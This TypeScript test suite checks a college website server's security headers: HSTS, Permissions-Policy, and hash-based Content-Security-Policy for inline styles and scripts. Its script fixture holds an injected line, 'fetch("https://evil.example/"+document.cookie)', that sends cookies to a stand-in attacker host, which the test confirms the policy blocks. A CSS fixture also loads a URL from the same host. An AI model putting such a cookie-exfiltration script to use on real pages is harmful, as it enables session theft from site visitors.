import crypto from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import { buildTestApp, type TestContext } from '../../../test/helpers';

/** A page (the shell's client-only /admin), a hashed file, and a JSON answer. */
const urls = ['/admin', '/main.0123456789.js', '/api/health'];

describe('HSTS (Strict-Transport-Security)', () => {
  const headersOf = async (env: NodeJS.ProcessEnv) => {
    const ctx: TestContext = await buildTestApp(env);
    try {
      return await Promise.all(urls.map(async (url) => (await ctx.app.inject({ url })).headers['strict-transport-security']));
    } finally {
      await ctx.close();
    }
  };

  it('is sent on pages, files and JSON answers when AEC_PUBLIC_URL is https', async () => {
    expect(await headersOf({ AEC_PUBLIC_URL: 'https://www.aec.ac.in' })).toEqual(urls.map(() => 'max-age=31536000'));
  });

  it('is never sent when the site is served over plain HTTP', async () => {
    expect(await headersOf({ AEC_PUBLIC_URL: 'http://intranet.aec.ac.in' })).toEqual(urls.map(() => undefined));
    expect(await headersOf({})).toEqual(urls.map(() => undefined));
  });

  it('refuses to start with a malformed AEC_PUBLIC_URL rather than quietly serving without HTTPS-only', async () => {
    await expect(buildTestApp({ AEC_PUBLIC_URL: 'https//www.aec.ac.in' })).rejects.toThrow(/AEC_PUBLIC_URL: must be an http:\/\/ or https:\/\/ address/);
  });
});

describe('Permissions-Policy and upgrade-insecure-requests (SECURITY.md, decision 053)', () => {
  const pageHeaders = async (env: NodeJS.ProcessEnv, url = '/admin') => {
    const ctx = await buildTestApp(env);
    try {
      return (await ctx.app.inject({ url })).headers;
    } finally {
      await ctx.close();
    }
  };
  const policy = (header: unknown) =>
    new Map(
      String(header)
        .split(/,\s*/)
        .map((item) => item.split('=') as [string, string]),
    );

  it('turns off every browser feature no page uses, and delegates the few in use to the frames that use them', async () => {
    const features = policy((await pageHeaders({}))['permissions-policy']);
    for (const off of [
      'camera',
      'microphone',
      'geolocation',
      'payment',
      'usb',
      'serial',
      'hid',
      'midi',
      'display-capture',
      'clipboard-read',
      'browsing-topics',
    ]) {
      expect([off, features.get(off)]).toEqual([off, '()']);
    }
    expect(features.get('clipboard-write')).toBe('(self)');
    expect(features.get('fullscreen')).toBe('(self "https://www.youtube-nocookie.com" "https://www.google.com")');
    expect(features.get('autoplay')).toBe('(self "https://www.youtube-nocookie.com")');
  });

  it('upgrades http:// subresources on an https site, and only there', async () => {
    const https = String((await pageHeaders({ AEC_PUBLIC_URL: 'https://www.aec.ac.in' }))['content-security-policy']);
    expect(https.split(';')).toContain('upgrade-insecure-requests');
    const http = String((await pageHeaders({ AEC_PUBLIC_URL: 'http://intranet.aec.ac.in' }))['content-security-policy']);
    expect(http).not.toContain('upgrade-insecure-requests');
  });
});

describe('styles under CSP without unsafe-inline (SECURITY.md, decision 052)', () => {
  const css = 'body{color:#123}';
  const bodyCss = '*{background:url(https://evil.example/x)}';
  const hash = (text: string) => `'sha256-${crypto.createHash('sha256').update(text, 'utf8').digest('base64')}'`;

  it('the client-drawn fallback document: its head stylesheets allowed by their hashes, nothing else inline', async () => {
    const ctx = await buildTestApp();
    try {
      // A shell whose index.html inlines its stylesheet (as the build does), and a stray <style> in its body.
      fs.writeFileSync(
        path.join(ctx.config.webRoot, 'shell/dist/index.html'),
        `<!doctype html><html lang=en><head><meta charset=utf-8><style data-href=/main.0123456789.css>${css}</style><style data-href=/x.css></style></head><body><div id=root></div><style>${bodyCss}</style></body></html>`,
      );
      for (const url of ['/admin', '/index.html']) {
        const res = await ctx.app.inject({ url });
        expect(res.body).toContain(css);
        const csp = String(res.headers['content-security-policy']);
        const styleSrc = csp.split(';').find((d) => d.startsWith('style-src '))!;
        expect(styleSrc.split(' ')).toEqual(['style-src', "'self'", hash(css), hash('')]);
        expect(csp.split(';')).toContain("style-src-attr 'unsafe-inline'");
        expect(csp).not.toContain(hash(bodyCss));
      }
    } finally {
      await ctx.close();
    }
  });

  it('files and JSON answers get no inline styles at all', async () => {
    const ctx = await buildTestApp();
    try {
      const file = String((await ctx.app.inject({ url: '/main.0123456789.js' })).headers['content-security-policy']);
      expect(file.split(';').find((d) => d.startsWith('style-src '))).toBe("style-src 'self'");
      expect(String((await ctx.app.inject({ url: '/api/health' })).headers['content-security-policy'])).toBe("default-src 'none'; frame-ancestors 'none'");
    } finally {
      await ctx.close();
    }
  });
});

describe('the first-screen script under CSP without unsafe-inline (decision 200)', () => {
  const firstScreen = 'document.documentElement.setAttribute("data-x","1")';
  const bodyScript = 'fetch("https://evil.example/"+document.cookie)';
  const hash = (text: string) => `'sha256-${crypto.createHash('sha256').update(text, 'utf8').digest('base64')}'`;

  it("allows the head's bare inline script by its hash, and no data block, typed script or body script", async () => {
    const ctx = await buildTestApp();
    try {
      fs.writeFileSync(
        path.join(ctx.config.webRoot, 'shell/dist/index.html'),
        `<!doctype html><html lang=en><head><meta charset=utf-8><script>${firstScreen}</script>` +
          `<script type="application/ld+json">{"@type":"Thing"}</script><script type=module>alert(1)</script></head>` +
          `<body><div id=root></div><script>${bodyScript}</script></body></html>`,
      );
      const csp = String((await ctx.app.inject({ url: '/admin' })).headers['content-security-policy']);
      const scriptSrc = csp.split(';').find((d) => d.startsWith('script-src '))!;
      expect(scriptSrc.split(' ')).toEqual(['script-src', "'self'", hash(firstScreen)]);
      expect(scriptSrc).not.toContain("'unsafe-inline'");
      expect(csp).not.toContain(hash(bodyScript));
      expect(csp).not.toContain(hash('alert(1)'));
    } finally {
      await ctx.close();
    }
  });

  it('files and JSON answers allow no inline script', async () => {
    const ctx = await buildTestApp();
    try {
      const file = String((await ctx.app.inject({ url: '/main.0123456789.js' })).headers['content-security-policy']);
      expect(file.split(';').find((d) => d.startsWith('script-src '))).toBe("script-src 'self'");
    } finally {
      await ctx.close();
    }
  });
});

describe("a file that never becomes a document carries a subresource's headers only (decision 204)", () => {
  it('a font, an image, a stylesheet and a manifest: nosniff, CORP and HSTS, no CSP or Permissions-Policy; a page, a script and a PDF keep them', async () => {
    const ctx = await buildTestApp({ AEC_PUBLIC_URL: 'https://www.aec.ac.in' });
    try {
      const headers = async (url: string) => (await ctx.app.inject({ url })).headers;
      for (const url of ['/assets/x.0123456789.woff2', '/icons/icon-192.png', '/main.0123456789.css', '/as/manifest.webmanifest']) {
        const h = await headers(url);
        expect([url, h['x-content-type-options'], h['cross-origin-resource-policy'], h['strict-transport-security']]).toEqual([
          url,
          'nosniff',
          'same-origin',
          'max-age=31536000',
        ]);
        expect([url, h['content-security-policy'], h['permissions-policy'], h['x-frame-options']]).toEqual([url, undefined, undefined, undefined]);
      }
      // An uploaded photo keeps the files route's own sandbox.
      const photo = await headers('/files/variants/a-720.webp?v=1');
      expect([photo['content-security-policy'], photo['permissions-policy'], photo['x-content-type-options']]).toEqual(['sandbox', undefined, 'nosniff']);
      for (const url of ['/admin', '/main.0123456789.js', '/sw.js', '/files/notice.pdf', '/icons.png/page']) {
        const h = await headers(url);
        expect([url, typeof h['content-security-policy'], typeof h['permissions-policy']]).toEqual([url, 'string', 'string']);
      }
    } finally {
      await ctx.close();
    }
  });

  it("the site's own SVG, a document only when opened by itself, may run no script nor fetch anything but its images (decision 208)", async () => {
    const ctx = await buildTestApp({ AEC_PUBLIC_URL: 'https://www.aec.ac.in' });
    try {
      for (const url of ['/aec-emblem.svg', '/favicon.svg?v=2', '/remotes/mfe-campus/assets/map.0123456789.svg']) {
        const h = (await ctx.app.inject({ url })).headers;
        expect([url, h['content-security-policy'], h['x-content-type-options'], h['cross-origin-resource-policy'], h['strict-transport-security']]).toEqual([
          url,
          "default-src 'none'; img-src 'self' data:; style-src 'unsafe-inline'; frame-ancestors 'self'",
          'nosniff',
          'same-origin',
          'max-age=31536000',
        ]);
        expect([url, h['permissions-policy'], h['cross-origin-opener-policy']]).toEqual([url, undefined, undefined]);
      }
      // An uploaded SVG keeps the files route's sandbox.
      expect((await ctx.app.inject({ url: '/files/drawing.svg' })).headers['content-security-policy']).toBe('sandbox');
    } finally {
      await ctx.close();
    }
  });
});
